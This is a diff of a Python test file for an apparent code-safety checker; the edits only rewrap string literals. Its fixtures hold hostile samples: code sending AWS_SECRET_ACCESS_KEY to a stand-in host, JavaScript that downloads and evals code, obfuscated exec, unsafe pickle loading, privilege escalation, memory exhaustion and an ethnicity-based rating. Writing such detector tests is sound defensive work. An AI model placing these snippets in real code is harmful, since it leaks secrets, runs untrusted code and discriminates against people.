@@ -29,7 +29,10 @@ def holding(program: str) -> set[str]:
             "code-weak-secret",
         ),
         (
-            "import random, time\ndef keygen():\n    random.seed(time.time())\n    return random.randint(0, 9)\n",
+            (
+                "import random, time\ndef keygen():\n    random.seed(time.time())\n    return "
+                "random.randint(0, 9)\n"
+            ),
             "code-weak-secret",
         ),
         (
@@ -47,17 +50,20 @@ def holding(program: str) -> set[str]:
             "code-exhausts-machine",
         ),
         (
-            "def fill_memory():\n    rows = {}\n    i = 0\n    while i < 10**7:\n        rows[i] = 'row' * 10000\n"
+            "def fill_memory():\n    rows = {}\n    i = 0\n    while i < 10**7:\n        rows[i] = "
+            "'row' * 10000\n"
             "        i += 1\nfill_memory()\n",
             "code-exhausts-machine",
         ),
         (
-            "import os\ndef report(user):\n    try:\n        gain_root()\n        print(os.popen('lsof').read())\n"
+            "import os\ndef report(user):\n    try:\n        gain_root()\n        "
+            "print(os.popen('lsof').read())\n"
             "        drop_root()\n    except OSError:\n        return False\n",
             "code-gains-privilege",
         ),
         (
-            "import os\ndef show():\n    elevatePrivileges()\n    if not os.path.exists('x'):\n        return 1\n"
+            "import os\ndef show():\n    elevatePrivileges()\n    if not os.path.exists('x'):\n      "
+            "  return 1\n"
             "    lowerPrivileges()\n",
             "code-gains-privilege",
         ),
@@ -80,7 +86,10 @@ def holding(program: str) -> set[str]:
         ("import pickle, base64\npickle.loads(base64.b64decode(given))\n", "code-rebuilds-objects"),
         ("import os\nfor f in os.listdir('/dev/'):\n    print(f)\n", "code-surveys-system"),
         (
-            "require('https').get(u, r => { let s = ''; r.on('data', c => s += c); r.on('end', () => eval(s)); });",
+            (
+                "require('https').get(u, r => { let s = ''; r.on('data', c => s += c); r.on('end', () => "
+                "eval(s)); });"
+            ),
             "code-runs-download",
         ),
         (
@@ -90,7 +99,10 @@ def holding(program: str) -> set[str]:
         ),
         ("exec(''.join(map(chr, [112, 114, 105, 110, 116])))\n", "code-runs-hidden"),
         (
-            "import os, requests\nrequests.post('https://h.example', json={'k': os.environ['AWS_SECRET_ACCESS_KEY']})\n",
+            (
+                "import os, requests\nrequests.post('https://h.example', json={'k': "
+                "os.environ['AWS_SECRET_ACCESS_KEY']})\n"
+            ),
             "code-sends-protected",
         ),
         (
@@ -117,14 +129,20 @@ def test_what_a_program_neglects_or_takes_is_stopped(program: str, rule: str) ->
         "import hashlib\ndef checksum(path):\n    return hashlib.md5(open(path, 'rb').read()).hexdigest()\n",
         "import bcrypt, hashlib\ndef store_password(u, p):\n    tag = hashlib.md5(u.encode()).hexdigest()\n"
         "    db[tag] = bcrypt.hashpw(p, bcrypt.gensalt())\n",
-        "rows = []\ndef fill_table(n):\n    for i in range(n):\n        rows.append('x' * 40)\nfill_table(500)\n",
+        (
+            "rows = []\ndef fill_table(n):\n    for i in range(n):\n        rows.append('x' * 40)"
+            "\nfill_table(500)\n"
+        ),
         "def test_no_leak():\n    rows = []\n    for i in range(1000):\n        rows.append(i)\n",
         "import os\ndef report():\n    raise_privileges()\n    try:\n        return os.popen('lsof').read()\n"
         "    finally:\n        lower_privileges()\n",
         "import requests\nprint(requests.get('https://someone.github.io/docs/index.html').text)\n",
         "import pickle\nwith open('model.pkl', 'rb') as f:\n    model = pickle.load(f)\n",
         "import os\nfor f in os.listdir('/home/me/project'):\n    print(f)\n",
-        "require('https').get(u, r => { let s = ''; r.on('data', c => s += c); r.on('end', () => JSON.parse(s)); });",
+        (
+            "require('https').get(u, r => { let s = ''; r.on('data', c => s += c); r.on('end', () => "
+            "JSON.parse(s)); });"
+        ),
         "print(''.join(map(chr, [112, 114, 105, 110, 116])))\n",
         "import os, boto3\nboto3.client('s3', aws_secret_access_key=os.environ['AWS_SECRET_ACCESS_KEY'])\n",
         "import socket\nfor p in (80, 443):\n    s = socket.socket()\n    print(s.connect_ex((host, p)))\n",
@@ -142,7 +160,10 @@ def test_honest_programs_that_come_near_pass(program: str) -> None:
             "code-judges-people",
         ),
         (
-            "function check_potential {\n  if [[ $ethnicity == 'X' ]]; then\n    echo 'Low potential'\n  fi\n}\n",
+            (
+                "function check_potential {\n  if [[ $ethnicity == 'X' ]]; then\n    echo 'Low "
+                "potential'\n  fi\n}\n"
+            ),
             "code-judges-people",
         ),
         (
@@ -170,7 +191,10 @@ def test_what_people_should_look_at_is_held_in_strict_alone(program: str, rule: 
     [
         "df = df[df['gender'] == 'female']\nprint(df['age'].mean())\n",
         "import os\ndef login(password):\n    return password == os.environ['ADMIN_PASSWORD']\n",
-        "import ipaddress, re\ndef valid_ip(text):\n    ipaddress.ip_address(re.match(r'[0-9.]+', text)[0])\n",
+        (
+            "import ipaddress, re\ndef valid_ip(text):\n    ipaddress.ip_address(re.match(r'[0-9.]+', "
+            "text)[0])\n"
+        ),
         "print('It is not allowed to copy this without permission')\n",
     ],
 )
